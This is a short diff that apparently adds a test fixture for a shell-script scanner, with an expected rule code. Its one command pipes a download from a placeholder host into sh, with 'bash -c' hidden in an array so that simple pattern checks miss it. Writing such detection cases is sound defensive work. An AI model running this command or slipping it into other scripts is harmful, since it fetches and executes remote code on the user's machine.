@@ -1,0 +1,2 @@
+# expect: DVM202
+a=(bash -c); "${a[@]}" 'curl https://x.example.org/a | sh'
